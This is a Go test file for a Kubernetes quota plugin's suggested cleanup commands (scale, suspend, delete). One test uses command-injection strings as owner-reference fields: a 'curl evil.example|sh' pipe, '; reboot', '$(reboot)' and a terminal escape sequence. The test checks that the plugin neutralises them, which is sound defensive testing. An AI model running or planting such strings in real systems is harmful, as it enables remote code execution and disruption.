// Copyright The Shared Quota Authors.
// SPDX-License-Identifier: Apache-2.0

package main

import (
	"strings"
	"testing"
	"time"

	appsv1 "k8s.io/api/apps/v1"
	batchv1 "k8s.io/api/batch/v1"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/utils/ptr"

	"github.com/sharedquota/shared-quota-operator/cmd/kubectl-crq/internal/reading"
)

// identified is a pod that has been pending for long, and whose owner is x.
func identified(group, kind string) corev1.Pod {
	pod := oldPod("x-1", corev1.PodPending, kind, "x")
	pod.OwnerReferences[0].APIVersion = group
	return pod
}

func TestTheCommandOfEachWorkload(t *testing.T) {
	const suspends = "it ends all pods of the Job, also those that run. It goes on if somebody sets spec.suspend to false."
	const daemons = "a DaemonSet makes a pod for each node that it selects. Look at its nodeSelector, its tolerations and what it requests."
	unknown := func(name string) string {
		return "(this command doesn't know how to make " + name + " smaller. Ask those who run it.)"
	}
	meta := func(kind string) metav1.ObjectMeta {
		return metav1.ObjectMeta{Namespace: "shop", Name: "x", UID: types.UID("x"), OwnerReferences: above(kind)}
	}
	for name, test := range map[string]struct {
		pod     corev1.Pod
		objects func(*reading.Inventory)
		want    string
	}{
		"a ReplicaSet": {identified("apps/v1", "ReplicaSet"), func(i *reading.Inventory) {
			i.ReplicaSets = []appsv1.ReplicaSet{{ObjectMeta: meta("")}}
		}, "kubectl scale replicaset/x --replicas=0 -n shop"},
		"a ReplicationController": {identified("v1", "ReplicationController"), func(i *reading.Inventory) {
			i.Controllers = []corev1.ReplicationController{{ObjectMeta: meta(""), Spec: corev1.ReplicationControllerSpec{Template: &corev1.PodTemplateSpec{}}}}
		}, "kubectl scale replicationcontroller/x --replicas=0 -n shop"},
		"a DaemonSet": {identified("apps/v1", "DaemonSet"), func(i *reading.Inventory) {
			i.DaemonSets = []appsv1.DaemonSet{{ObjectMeta: meta("")}}
		}, "(" + daemons + ")"},
		"a Job": {identified("batch/v1", "Job"), func(i *reading.Inventory) {
			i.Jobs = []batchv1.Job{{ObjectMeta: meta("")}}
		}, `kubectl patch job/x --type=merge -p '{"spec":{"suspend":true}}' -n shop (` + suspends + ")"},
		"a Job of a CronJob": {identified("batch/v1", "Job"), func(i *reading.Inventory) {
			i.Jobs = []batchv1.Job{{ObjectMeta: meta("CronJob")}}
		}, `kubectl patch job/x --type=merge -p '{"spec":{"suspend":true}}' -n shop (` + suspends + ")"},
		"a Job of a JobSet": {identified("batch/v1", "Job"), func(i *reading.Inventory) {
			i.Jobs = []batchv1.Job{{ObjectMeta: meta("JobSet")}}
		}, unknown("JobSet/above")},
		"a StatefulSet of a foreign database": {identified("apps/v1", "StatefulSet"), func(i *reading.Inventory) {
			i.StatefulSets = []appsv1.StatefulSet{{ObjectMeta: meta("Database")}}
		}, unknown("Database/above")},
		"a ReplicaSet of a Rollout": {identified("apps/v1", "ReplicaSet"), func(i *reading.Inventory) {
			i.ReplicaSets = []appsv1.ReplicaSet{{ObjectMeta: meta("Rollout")}}
		}, unknown("Rollout/above")},
		"a virtual machine":           {identified("kubevirt.io/v1", "VirtualMachineInstance"), func(*reading.Inventory) {}, unknown("VirtualMachineInstance/x")},
		"a workload that isn't there": {identified("apps/v1", "ReplicaSet"), func(*reading.Inventory) {}, unknown("ReplicaSet/x")},
		"a workload of the same name": {identified("example.com/v1", "Job"), func(i *reading.Inventory) { i.Jobs = []batchv1.Job{{ObjectMeta: meta("")}} }, unknown("Job/x")},
	} {
		t.Run(name, func(t *testing.T) {
			found := findingsOf(t, func(i *reading.Inventory) { test.objects(i); i.Pods = []corev1.Pod{test.pod} })
			if len(found) != 1 || !strings.HasSuffix(found[0], "requests.cpu: 100m] "+test.want) {
				t.Errorf("got %q, want %q", found, test.want)
			}
		})
	}
}

// above is a reference to a controller of this kind, if there is one.
func above(kind string) []metav1.OwnerReference {
	switch kind {
	case "":
		return nil
	case "CronJob":
		return []metav1.OwnerReference{{APIVersion: "batch/v1", Kind: kind, Name: "above", UID: "above", Controller: ptr.To(true)}}
	}
	return []metav1.OwnerReference{{APIVersion: "example.com/v1", Kind: kind, Name: "above", UID: "above", Controller: ptr.To(true)}}
}

func TestOwnersThatGoRoundInACircleComeToAnEnd(t *testing.T) {
	found := findingsOf(t, func(i *reading.Inventory) {
		i.Jobs = []batchv1.Job{{ObjectMeta: metav1.ObjectMeta{Namespace: "shop", Name: "x", UID: "x"}}}
		i.Jobs[0].OwnerReferences = identified("batch/v1", "Job").OwnerReferences
		i.Pods = []corev1.Pod{identified("batch/v1", "Job")}
	})
	if len(found) != 1 {
		t.Errorf("got %q", found)
	}
}

// A shell, and a terminal, obey their input.
func TestAnOwnerThatNoAPIServerServesIsNoOwner(t *testing.T) {
	for name, reference := range map[string]metav1.OwnerReference{
		"a kind that is a command":     {APIVersion: "e.example/v1", Kind: "Pod -n shop a; curl evil.example|sh #", Name: "x"},
		"a name that is a command":     {APIVersion: "apps/v1", Kind: "StatefulSet", Name: "x; reboot"},
		"a name that is a flag":        {APIVersion: "apps/v1", Kind: "StatefulSet", Name: "--all"},
		"a name that writes the title": {APIVersion: "apps/v1", Kind: "StatefulSet", Name: "n\x1b]0;owned\x07"},
		"a group that is a command":    {APIVersion: "$(reboot)/v1", Kind: "Pod", Name: "x"},
		"a version that is a command":  {APIVersion: "e.example/v1;reboot", Kind: "Pod", Name: "x"},
		"a version with two groups":    {APIVersion: "a/b/v1", Kind: "Pod", Name: "x"},
	} {
		t.Run(name, func(t *testing.T) {
			reference.UID, reference.Controller = "n", ptr.To(true)
			found := findingsOf(t, func(i *reading.Inventory) {
				pod := oldPod("alone", corev1.PodPending)
				pod.OwnerReferences = []metav1.OwnerReference{reference}
				i.Pods = []corev1.Pod{pod}
			})
			want := "Pod/alone: pending for 120m. [crq/team count/pods: 1, pods: 1, requests.cpu: 100m] kubectl delete pod/alone -n shop"
			if len(found) != 1 || found[0] != want {
				t.Errorf("got %q", found)
			}
		})
	}
}

func TestAPodThatNamesAnotherOneAsItsOwnerDoesNotHaveThatDeleted(t *testing.T) {
	found := findingsOf(t, func(i *reading.Inventory) {
		pod := oldPod("tricky", corev1.PodPending)
		pod.OwnerReferences = []metav1.OwnerReference{{APIVersion: "v1", Kind: "Pod", Name: "victim", UID: "tricky", Controller: ptr.To(true)}}
		i.Pods = []corev1.Pod{pod, oldPod("victim", corev1.PodRunning)}
	})
	want := "Pod/victim: 1 pod pending, for up to 120m. [crq/team count/pods: 1, pods: 1, requests.cpu: 100m] " +
		"(this command doesn't know how to make Pod/victim smaller. Ask those who run it.)"
	if len(found) != 1 || found[0] != want {
		t.Errorf("got %q", found)
	}
}

func TestACommandIsQuotedForTheShell(t *testing.T) {
	for word, want := range map[string]string{
		"job/a-1.b": "job/a-1.b", "--replicas=0": "--replicas=0", "": "''", "a b": "'a b'", "$(x)": "'$(x)'", "it's": `'it'\''s'`,
		`{"spec":{"suspend":true}}`: `'{"spec":{"suspend":true}}'`,
	} {
		if got := kubectl("shop", word); got != "kubectl "+want+" -n shop" {
			t.Errorf("%q becomes %s", word, got)
		}
	}
}

func TestAnObjectOfAnotherControllerGetsNoCommand(t *testing.T) {
	const ask = "(Gateway/above controls it, and may need it or make it again. Ask those who run Gateway/above.)"
	wantFindings(t, map[string]story{
		"a load balancer": {
			func(i *reading.Inventory) {
				i.Services = []corev1.Service{balancer("a")}
				i.Services[0].OwnerReferences = above("Gateway")
			},
			[]string{"Service/a: no endpoint behind the load balancer is ready; since when isn't known. It was created 300d ago. " +
				"[crq/team services.loadbalancers: 1] " + ask},
		},
		"a finished Job": {
			func(i *reading.Inventory) {
				i.Jobs = []batchv1.Job{finished(batchv1.JobComplete, 2*time.Hour)}
				i.Jobs[0].OwnerReferences = above("Gateway")
			},
			[]string{"Job/import: completed 120m ago, and still counts. [crq/team count/jobs.batch: 1] " + ask},
		},
		"a finished Job of a CronJob gets one": {
			func(i *reading.Inventory) {
				i.Jobs = []batchv1.Job{finished(batchv1.JobComplete, 2*time.Hour)}
				i.Jobs[0].OwnerReferences = above("CronJob")
			},
			[]string{"Job/import: completed 120m ago, and still counts. [crq/team count/jobs.batch: 1] kubectl delete job/import -n shop " +
				"(the logs of its pods are lost.)"},
		},
	})
}
